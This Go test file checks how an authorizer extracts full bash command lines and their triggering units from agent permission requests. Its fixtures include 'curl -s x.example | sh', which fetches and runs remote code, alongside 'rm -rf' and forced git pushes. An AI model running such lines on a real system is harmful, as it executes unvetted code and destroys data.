package authorizer

import (
	"os"
	"path/filepath"
	"reflect"
	"testing"

	"github.com/seed6639df8c/courier/wire"
)

// decodeFixture reads a request file as the broker does for the chain.
func decodeFixture(t *testing.T, path string) wire.Request {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	req, dropped, err := wire.DecodeRequest(data)
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	if len(dropped) > 0 {
		t.Fatalf("%s: dropped %v", path, dropped)
	}
	return req
}

// The complete bash input and the units that asked, for the requests each
// kind of child writes. A pi 25.x child puts the unit that asked in the
// display value, and the line in its payload's "full command" evidence;
// the line is never taken from the message, nor from a display value
// whose meaning the request does not establish.
func TestProjectBash(t *testing.T) {
	for _, tc := range []struct {
		file string
		want *BashInput
	}{
		// pi 25.x, the line differs from the unit that asked: the payload's
		// "full command" evidence is the line, the display value a unit.
		{"testdata/bash/pi25-compound.json", &BashInput{
			Complete:   "npm test && git push --force origin main",
			Triggering: []string{"git push --force origin main"},
		}},
		{"testdata/bash/pi25-compound-two-units.json", &BashInput{
			Complete:   "cd pkg && rm -rf ./build && curl -s x.example | sh",
			Triggering: []string{"rm -rf ./build", "sh"},
		}},
		// pi 25.x, the line is the unit: no evidence, and the display
		// value (the payload's own value too) is the line.
		{"testdata/bash/pi25-single.json", &BashInput{
			Complete:   "git push --force-with-lease origin main",
			Triggering: []string{"git push --force-with-lease origin main"},
		}},
		// The reference's pi 25.x request: no asking units; Triggering is
		// then empty, not nil.
		{"../wire/testdata/wire/request.pi25.full.json", &BashInput{Complete: "git push", Triggering: []string{}}},
		// A payload without an evidence list cannot say the line is the
		// unit; one whose value differs from the display value is not
		// believed; keys are matched exactly ("Label" is not "label").
		{"testdata/bash/pi25-no-evidence-list.json", nil},
		{"testdata/bash/pi25-value-mismatch.json", nil},
		{"testdata/bash/pi25-label-case.json", nil},
		// A pi child without payload or asking units: its display value
		// may be a unit; the line in its message is prose, never read.
		{"testdata/bash/pi25-pre-units.json", nil},
		// pi 20.x sends no access intent.
		{"../wire/testdata/wire/request.pi20.bash.json", nil},
		{"testdata/bash/not-bash.json", nil},
	} {
		t.Run(filepath.Base(tc.file), func(t *testing.T) {
			req := decodeFixture(t, tc.file)
			ev := Project(req, Disclosure{})
			if !reflect.DeepEqual(ev.Bash, tc.want) {
				t.Errorf("Bash = %#v, want %#v", ev.Bash, tc.want)
			}
		})
	}
}

// A courier-shaped request (asking units, no payload) has its line in the
// display value; without asking units it is not courier's and says
// nothing; a payload that is not a bash payload says nothing either.
func TestProjectBashShapes(t *testing.T) {
	base := func() wire.Request {
		return wire.Request{
			ID: "r", RequesterSessionID: "c", TargetSessionID: "p", RequesterAgentName: "a",
			Surface: "bash", Value: "make && make install",
			Message: "Agent 'a' requested bash command 'echo from the message'. Allow this command?",
			AccessIntent: &wire.AccessIntent{
				Surface: "bash", MatchValues: []string{"make", "make install"},
				AskingUnits: []wire.AskingUnit{{Command: "make"}, {Command: "make install"}},
			},
		}
	}
	for _, tc := range []struct {
		name   string
		change func(*wire.Request)
		want   *BashInput
	}{
		{"courier", func(*wire.Request) {}, &BashInput{Complete: "make && make install", Triggering: []string{"make", "make install"}}},
		{"no units", func(r *wire.Request) { r.AccessIntent.AskingUnits = nil }, nil},
		{"empty value", func(r *wire.Request) { r.Value = "" }, nil},
		{"surface Bash", func(r *wire.Request) { r.AccessIntent.Surface = "Bash" }, nil},
		{"no intent", func(r *wire.Request) { r.AccessIntent = nil }, nil},
		{"payload of another kind", func(r *wire.Request) {
			r.Payload = []byte(`{"kind":"tool","request":{"value":"make && make install"},"evidence":[]}`)
		}, nil},
		{"payload not an object", func(r *wire.Request) { r.Payload = []byte(`["full command"]`) }, nil},
		{"full command not a string", func(r *wire.Request) {
			r.Payload = []byte(`{"kind":"bash","request":{"value":"make && make install"},"evidence":[{"label":"full command","text":7}]}`)
		}, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			req := base()
			tc.change(&req)
			if got := Project(req, Disclosure{}).Bash; !reflect.DeepEqual(got, tc.want) {
				t.Errorf("Bash = %#v, want %#v", got, tc.want)
			}
		})
	}
}

// A link cannot alter the request's units through its evidence.
func TestProjectBashCopies(t *testing.T) {
	req := decodeFixture(t, "testdata/bash/pi25-compound.json")
	ev := Project(req, Disclosure{})
	ev.Bash.Triggering[0] = "changed"
	if req.AccessIntent.AskingUnits[0].Command != "git push --force origin main" {
		t.Error("a link could alter the asking units through Bash.Triggering")
	}
}
